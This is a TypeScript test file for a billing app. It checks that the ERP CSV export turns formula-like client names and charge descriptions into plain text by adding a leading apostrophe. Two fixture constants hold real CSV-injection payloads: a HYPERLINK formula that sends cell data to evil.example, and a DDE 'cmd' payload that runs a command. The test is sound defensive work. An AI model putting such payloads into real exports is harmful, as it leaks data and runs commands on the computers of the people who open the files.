import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../src/server/modules/billing/csv.js";
import { type Staff, seedStaff } from "../fixtures.js";
import { DATABASES, manualClock, startApp, type TestApp } from "../harness.js";
import { attendedTicket, close, newClient, raw, review } from "../support/billing.js";

const EVIL_CLIENT = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
const EVIL_CHARGE = "=cmd|' /C calc'!A0";

/**
 * The ERP CSV opened in a spreadsheet: a client or a charge named like a formula stays text (a
 * leading apostrophe, as the reports' CSVs write it), while quantities and amounts stay numbers.
 */
describe.each(DATABASES)("ERP CSV export keeps formulas as text on %s", (kind) => {
  let t: TestApp;
  let s: Staff;
  const time = manualClock("2026-03-10T17:00:00Z");

  beforeAll(async () => {
    t = await startApp(kind, { clock: time.clock });
    s = await seedStaff(t.app);
    expect((await s.sales.post("/api/rates", { hourlyRateCents: 50_000 })).status).toBe(201);
  });
  afterAll(() => t?.close());

  it("neutralises text cells starting with =, +, - or @ and writes numbers as they are", async () => {
    const client = await newClient(s, EVIL_CLIENT, "pagos@evil.example");
    const ev = await attendedTicket(s, {
      clientId: client,
      entries: [{ minutes: 60, mode: "remote" }],
      charges: [
        { kind: "other", description: EVIL_CHARGE, quantity: 3, unitPriceCents: 12_345 },
        { kind: "other", description: "+52 cable", quantity: 1, unitPriceCents: 100 },
        { kind: "other", description: "-10% descuento", quantity: 1, unitPriceCents: 200 },
        { kind: "other", description: "@SUM(1+1)", quantity: 2, unitPriceCents: 5 },
      ],
    });
    await review(s, ev.id);
    await close(s, ev.id);
    const [draft] = (await s.leader.get(`/api/invoices?clientId=${client}`)).body.items;
    expect((await s.leader.post(`/api/invoices/${draft.id}/issue`)).status).toBe(200);

    const exp = await raw(s.leader, "POST", "/api/billing/exports", {
      format: "csv",
      invoiceIds: [draft.id],
    });
    expect(exp.statusCode, exp.body).toBe(200);
    const [header, ...rows] = parseCsv(exp.body);
    const col = (name: string) => header!.indexOf(name);
    expect(
      rows.map((r) => [r[col("Concepto")], r[col("Cantidad")], r[col("PrecioUnitario")], r[col("Importe")]]),
    ).toEqual([
      [`Servicio ${ev.folio}: Servicio (remota)`, "1", "500.00", "500.00"],
      [`'${EVIL_CHARGE}`, "3", "123.45", "370.35"],
      ["'+52 cable", "1", "1.00", "1.00"],
      ["'-10% descuento", "1", "2.00", "2.00"],
      ["'@SUM(1+1)", "2", "0.05", "0.10"],
    ]);
    // 873.45 + 16 % IVA (139.752 → 139.75) = 1,013.20.
    for (const r of rows) {
      expect(r[col("Cliente")]).toBe(`'${EVIL_CLIENT}`);
      expect([r[col("TasaIVA")], r[col("Subtotal")], r[col("IVA")], r[col("Total")]]).toEqual([
        "0.1600",
        "873.45",
        "139.75",
        "1013.20",
      ]);
      expect(r[col("FolioMesa")]).toBe(draft.folio);
    }
    // The quoting is RFC 4180's on the neutralised text: the raw line holds the apostrophe inside the quotes.
    expect(exp.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`);
  });
});
